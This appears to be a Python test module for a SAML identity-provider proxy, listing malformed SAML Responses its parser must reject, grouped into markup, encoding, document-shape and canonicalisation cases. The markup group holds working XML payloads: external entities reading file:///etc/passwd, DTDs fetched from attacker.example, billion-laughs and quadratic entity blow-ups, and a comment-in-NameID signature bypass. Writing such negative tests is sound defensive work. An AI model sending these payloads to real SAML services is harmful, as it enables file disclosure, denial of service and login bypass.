"""Octets that are not, or not only, the XML of one Response: encodings, declarations, shapes."""

from __future__ import annotations

from typing import TYPE_CHECKING

from idp_proxy.saml import document
from tests.attacks.attack import ResponseAttack, rule_of
from tests.attacks.messages import (
    ASSERTION,
    octets,
    one,
    rewritten,
    signed,
    unsigned,
)

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.attacks.attack import Login

PROTOCOL = b"urn:oasis:names:tc:SAML:2.0:protocol"


def attack(
    klass: str,
    name: str,
    check: Callable[..., object],
    make: Callable[[Login], bytes | str],
    rule: str = "",
) -> ResponseAttack:
    return ResponseAttack(name, klass, rule or rule_of(check), check, make)


def prefixed(text: bytes) -> Callable[[Login], bytes]:
    return rewritten(lambda octets_: text + octets_)


def in_name_id(text: bytes) -> Callable[[Login], bytes]:
    """Right inside the signed NameID: e-<...>1001."""
    return rewritten(lambda octets_: octets_.replace(b">e-1001<", b">e-" + text + b"1001<"))


def with_doctype(subset: bytes, use: bytes = b"") -> Callable[[Login], bytes]:
    def change(message: bytes) -> bytes:
        return b"<!DOCTYPE r [" + subset + b"]>" + message.replace(b"e-1001", use or b"e-1001")

    return rewritten(change)


def encoded(codec: str, mark: bytes = b"", declared: str = "") -> Callable[[Login], bytes]:
    def change(message: bytes) -> bytes:
        text = message.decode("utf-8")
        if declared:
            text = f'<?xml version="1.0" encoding="{declared}"?>{text}'
        return mark + text.encode(codec)

    return rewritten(change)


def root_is(octets_: bytes) -> Callable[[Login], bytes]:
    return lambda _: octets_


def _laughs() -> bytes:
    lines = [b'<!ENTITY a0 "ha">']
    lines += [
        b'<!ENTITY a%d "%s">' % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 10)
    ]
    return b"".join(lines)


def _soap(message: bytes) -> bytes:
    name = b"http://schemas.xmlsoap.org/soap/envelope/"
    return b'<s:Envelope xmlns:s="' + name + b'"><s:Body>' + message + b"</s:Body></s:Envelope>"


def _bare_assertion(login: Login) -> bytes:
    return octets(one(signed(unsigned(login), login), ASSERTION))


def _comment(login: Login) -> bytes:
    """VU#475445: the signature holds without comments, and text() stops at the comment."""
    return in_name_id(b"<!---->")(login)


MARKUP = tuple(
    attack("markup", name, document.xml_01_markup, make)
    for name, make in {
        "comment in NameID": _comment,
        "comment in front": prefixed(b"<!-- hello -->"),
        "comment behind": rewritten(lambda message: message + b"<!-- bye -->"),
        "CDATA in NameID": in_name_id(b"<![CDATA[x]]>"),
        "instruction in NameID": in_name_id(b"<?x y?>"),
        "stylesheet instruction": prefixed(b'<?xml-stylesheet href="https://attacker.example/"?>'),
        "empty DOCTYPE": prefixed(b"<!DOCTYPE r>"),
        "DOCTYPE with an external subset": prefixed(
            b'<!DOCTYPE r SYSTEM "https://attacker.example/evil.dtd">'
        ),
        "entity in NameID": with_doctype(b'<!ENTITY e "e-0001">', b"&e;"),
        "external entity": with_doctype(b'<!ENTITY e SYSTEM "file:///etc/passwd">', b"&e;"),
        "parameter entity": with_doctype(
            b'<!ENTITY % e SYSTEM "https://attacker.example/evil.dtd">%e;'
        ),
        "billion laughs": with_doctype(_laughs(), b"&a9;"),
        "quadratic blow-up": with_doctype(b'<!ENTITY e "' + b"e" * 50000 + b'">', b"&e;" * 2000),
        "ID given by an entity": with_doctype(b'<!ENTITY e "x">'),
        "attribute default by a DTD": with_doctype(b'<!ATTLIST r ID CDATA "_evil">'),
        "notation": with_doctype(b'<!NOTATION n SYSTEM "calc.exe">'),
        "a second XML declaration": prefixed(b'<?xml version="1.0"?><?xml version="1.0"?>'),
        "a declaration behind": rewritten(lambda message: message + b'<?xml version="1.0"?>'),
        "XML 1.1": prefixed(b'<?xml version="1.1"?>'),
        "UTF-7 declared": encoded("ascii", declared="UTF-7"),
        "Latin-1 declared": encoded("ascii", declared="ISO-8859-1"),
        "UTF-16 declared, UTF-8 sent": encoded("utf-8", declared="UTF-16"),
        "UTF-7 with an entity": lambda _: (
            b'<?xml version="1.0" encoding="UTF-7"?>'
            b"+ADwAIQ-DOCTYPE r [+ADwAIQ-ENTITY e SYSTEM +ACI-file:///etc/passwd+ACIAPgBd-+AD4-"
        ),
        "EBCDIC declared": encoded("ascii", declared="IBM037"),
        "declaration in capitals": prefixed(b'<?XML version="1.0"?>'),
    }.items()
)

ENCODING = (
    *(
        attack("encoding", name, document.xml_03_utf8, make)
        for name, make in {
            "UTF-8 with a byte order mark": encoded("utf-8", mark=b"\xef\xbb\xbf"),
            "UTF-16 with a mark": encoded("utf-16-le", mark=b"\xff\xfe"),
            "UTF-16, big end first, with a mark": encoded("utf-16-be", mark=b"\xfe\xff"),
            "UTF-32 with a mark": encoded("utf-32-le", mark=b"\xff\xfe\x00\x00"),
            "Latin-1": in_name_id("é".encode("latin-1")),
            "EBCDIC": encoded("cp037"),
            "overlong slash": in_name_id(b"\xc0\xaf"),
            "a lone surrogate": in_name_id(b"\xed\xa0\x80"),
            "beyond Unicode": in_name_id(b"\xf5\x80\x80\x80"),
            "a cut character": rewritten(lambda message: message + b"\xe2\x82"),
        }.items()
    ),
    *(
        attack("encoding", name, document.xml_03_root, make)
        for name, make in {
            "UTF-16 without a mark": encoded("utf-16-le"),
            "UTF-16, big end first, without a mark": encoded("utf-16-be"),
            "UTF-32 without a mark": encoded("utf-32-le"),
            "NUL in NameID": in_name_id(b"\x00"),
            "NUL by reference": in_name_id(b"&#0;"),
            "control character": in_name_id(b"\x08"),
            "control character by reference": in_name_id(b"&#8;"),
            "surrogate by reference": in_name_id(b"&#xD800;"),
        }.items()
    ),
)

SHAPE = tuple(
    attack("document", name, document.xml_03_root, make)
    for name, make in {
        "empty": root_is(b""),
        "blank": root_is(b" \n"),
        "JSON": root_is(b'{"SAMLResponse": true}'),
        "HTML": root_is(b"<html><body><p>Sign in</body></html>"),
        "cut": rewritten(lambda message: message[:-40]),
        "two roots": rewritten(lambda message: message + message),
        "text behind": rewritten(lambda message: message + b"x"),
        "text in front": prefixed(b"x"),
        "NUL and a second message": rewritten(lambda message: message + b"\x00" + message),
        "unknown entity": in_name_id(b"&nbsp;"),
        "prefix without a namespace": rewritten(
            lambda message: message.replace(b"<samlp:Status>", b"<samlp:Status evil:x='1'>")
        ),
        "attribute twice": rewritten(
            lambda message: message.replace(b' Version="2.0"', b' Version="2.0" Version="2.0"', 1)
        ),
        "attribute twice by two prefixes": rewritten(
            lambda message: message.replace(
                b"<samlp:Status>", b'<samlp:Status xmlns:b="urn:c" xmlns:c="urn:c" b:x="" c:x="">'
            )
        ),
        "the xml prefix bound anew": rewritten(
            lambda message: message.replace(b"<samlp:Status>", b'<samlp:Status xmlns:xml="urn:x">')
        ),
        "a prefix taken back": rewritten(
            lambda message: message.replace(b"<samlp:Status>", b'<samlp:Status xmlns:saml="">')
        ),
        "in a SOAP envelope": rewritten(_soap),
        "a bare assertion": _bare_assertion,
        "a LogoutResponse": rewritten(
            lambda message: message.replace(b"samlp:Response", b"samlp:LogoutResponse")
        ),
        "an AuthnRequest": rewritten(
            lambda message: message.replace(b"samlp:Response", b"samlp:AuthnRequest")
        ),
        "a Response of SAML 1.1": rewritten(
            lambda message: message.replace(PROTOCOL, b"urn:oasis:names:tc:SAML:1.0:protocol")
        ),
        "a namespace with a slash behind": rewritten(
            lambda message: message.replace(PROTOCOL, PROTOCOL + b"/")
        ),
        "a namespace in capitals": rewritten(
            lambda message: message.replace(PROTOCOL, PROTOCOL.upper())
        ),
        "no namespace": root_is(b'<Response ID="_r" Version="2.0"/>'),
        "300 levels": rewritten(
            lambda message: message.replace(
                b"<samlp:Status>", b"<samlp:Status>" + b"<x>" * 300 + b"</x>" * 300
            )
        ),
    }.items()
)

CANONICAL_VOID = (
    attack(
        "canonicalisation",
        "relative namespace in SignedInfo",
        document.sp_02_signature_parts,
        rewritten(
            lambda message: message.replace(b"<ds:SignedInfo>", b'<ds:SignedInfo xmlns:v="1">')
        ),
        "XML-03",
    ),
    attack(
        "canonicalisation",
        "relative namespace in the assertion",
        document.sp_02_digest,
        rewritten(
            lambda message: message.replace(
                b"<saml:Subject>", b'<saml:Subject xmlns:void="void"><void:x/>'
            )
        ),
        "XML-03",
    ),
)

ATTACKS: tuple[ResponseAttack, ...] = (
    *MARKUP,
    *ENCODING,
    *SHAPE,
    *CANONICAL_VOID,
)
